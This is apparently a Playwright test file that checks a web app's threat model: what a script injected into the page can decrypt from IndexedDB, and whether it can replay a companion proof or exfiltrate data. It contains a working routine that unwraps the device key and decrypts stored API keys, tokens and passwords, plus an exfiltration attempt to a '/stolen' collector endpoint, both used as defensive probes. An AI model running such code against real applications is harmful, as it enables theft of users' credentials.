import type { Page } from '@playwright/test'
import { startCollector } from './collector.ts'
import { expect } from './chat-fixtures.ts'
import { connectModel, connectServers, openServers, setPassphrase, test as keyed } from './keyed-fixtures.ts'

// What docs/threat-model.md says about a script that got into the page: which stored secrets it can decrypt, and which not.

const test = keyed.extend({
  // The browser reports what the policy stops.
  expectedProblems: /./,
})
test.slow()

/** What a script in the page decrypts with nothing but IndexedDB: the device key is there, and every script may use it. */
const decryptStored = (page: Page): Promise<Record<string, string>> =>
  page.evaluate(async () => {
    const database = await new Promise<IDBDatabase>((resolve) => {
      const opening = indexedDB.open('switchboard')
      opening.onsuccess = () => resolve(opening.result)
    })
    const ask = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve) => (request.onsuccess = () => resolve(request.result)))
    type Slot = { key: CryptoKey; iv: BufferSource; wrapped: BufferSource }
    type Sealed = { id: string; version: number; iv: BufferSource; ciphertext: BufferSource }
    const stores = database.transaction(['settings', 'secrets'])
    const vault = (await ask(stores.objectStore('settings').get('vault'))) as {
      value: { keyId: string; slots: { device?: Slot } }
    }
    const sealed = (await ask(stores.objectStore('secrets').getAll())) as Sealed[]
    database.close()
    const { keyId, slots } = vault.value
    if (!slots.device) return {}
    const bound = (...parts: unknown[]) => new TextEncoder().encode(JSON.stringify(parts))
    const { key, iv, wrapped } = slots.device
    const slot = { name: 'AES-GCM', iv, additionalData: bound('switchboard-vault-slot', keyId, 'device') }
    const dataKey = await crypto.subtle.unwrapKey('raw', wrapped, key, slot, 'AES-GCM', true, ['decrypt'])
    const found: Record<string, string> = {}
    for (const { id, version, iv: own, ciphertext } of sealed) {
      const algorithm = { name: 'AES-GCM', iv: own, additionalData: bound('switchboard-secret', id, version) }
      found[id] = new TextDecoder().decode(await crypto.subtle.decrypt(algorithm, dataKey, ciphertext))
    }
    return found
  })

const programs = (page: Page) => page.getByRole('heading', { name: 'Programs on this computer' })

test("without a passphrase, a script in the page can decrypt keys, but not the companion's token", async ({
  app,
  companion,
  secrets,
  keyedModel,
  keyedServer,
}) => {
  await connectModel(app, keyedModel.url, secrets.modelKey)
  await connectServers(app, keyedServer.url, secrets)
  const found = await decryptStored(app)
  const texts = Object.values(found)
  // Said in README, SECURITY.md, the threat model and the vault screen. If it stops being true, they have to change.
  for (const one of [secrets.modelKey, secrets.token, secrets.apiKey, secrets.password]) expect(texts).toContain(one)
  expect(JSON.stringify(found)).not.toContain(companion.token)
  await openServers(app)
  await expect(programs(app)).toBeVisible()

  // A reload keeps the companion, by a proof that the page can read and a cookie that it can neither read nor send.
  await app.reload()
  await expect(programs(app)).toBeVisible()
  await expect(app.getByText('isn’t connected to the companion')).toHaveCount(0)
  const proof = (await decryptStored(app))['mcpServers:companion:proof']
  expect(proof).toBeTruthy()
  expect(await app.evaluate(() => document.cookie)).toBe('')
  expect(await app.context().cookies()).toMatchObject([{ httpOnly: true, sameSite: 'Strict', path: '/api/open' }])
  const tries = await app.evaluate(async (given) => {
    const init = {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ proof: given }),
    }
    const answer = (request: Promise<Response>) =>
      request.then(
        (response) => response.text(),
        () => 'blocked',
      )
    /** A window of the same origin has a policy of its own, under which the page's script could ask. */
    const inWindow = async (path: string) => {
      const opened = window.open(path)
      if (!opened) return 'no window'
      try {
        const start = performance.now()
        while (opened.location.href === 'about:blank' && performance.now() - start < 20_000)
          await new Promise((resolve) => setTimeout(resolve, 20))
        return await answer(opened.fetch(`${location.origin}/api/open`, init))
      } catch {
        return 'blocked'
      } finally {
        opened.close()
      }
    }
    return {
      page: await answer(fetch('/api/open', init)),
      engine: await inWindow('/assets/engine.js'),
      schema: await inWindow('/assets/schema-worker.js'),
      callback: await inWindow('/oauth/callback'),
      nothing: await inWindow('/nothing'),
      demo: await inWindow('/demo/mcp'),
      tooLong: await inWindow(`/${'x'.repeat(20_000)}`),
      blank: await inWindow('about:blank#x'),
    }
  }, proof)
  expect(tries).toEqual({
    page: 'blocked',
    engine: 'blocked',
    schema: 'blocked',
    callback: 'blocked',
    nothing: 'blocked',
    demo: 'blocked',
    tooLong: 'blocked',
    blank: 'blocked',
  })
})

test('with a passphrase, a script in the page can decrypt nothing', async ({ app, secrets, keyedModel }) => {
  await setPassphrase(app, secrets.passphrase)
  await connectModel(app, keyedModel.url, secrets.modelKey)
  expect(await decryptStored(app)).toEqual({})
})

test("the file of the engine, opened as a window, gives the page's script no way out", async ({ app }) => {
  const collector = await startCollector()
  const outcome = await app.evaluate(async (address) => {
    const opened = window.open('/assets/engine.js')
    if (!opened) return 'no window'
    try {
      const start = performance.now()
      while (opened.location.href === 'about:blank' && performance.now() - start < 20_000)
        await new Promise((resolve) => setTimeout(resolve, 20))
      await opened.fetch(`${address}/stolen`, { mode: 'no-cors' })
      return 'sent'
    } catch {
      return 'blocked'
    }
  }, collector.url)
  expect(outcome).toBe('blocked')
  expect(collector.requests.filter((request) => request.includes('/stolen'))).toEqual([])
  await collector.close()
})

test('storing the first key suggests a passphrase once, and opens the vault', async ({ app, secrets, keyedModel }) => {
  const hint = app.getByText('Your keys have no passphrase')
  await expect(hint).toHaveCount(0)
  await connectModel(app, keyedModel.url, secrets.modelKey)
  await expect(hint).toBeVisible()
  await app.getByRole('link', { name: 'Protect my keys' }).click()
  await expect(app.getByLabel('New passphrase')).toBeVisible()
  await expect(hint).toHaveCount(0)
  await app.getByRole('link', { name: 'Models' }).click()
  await app.getByRole('button', { name: 'Keep them like this' }).click()
  await expect(hint).toHaveCount(0)
  await app.reload()
  await expect(app.getByRole('button', { name: 'Connect a model' })).toBeVisible()
  await expect(hint).toHaveCount(0)
})
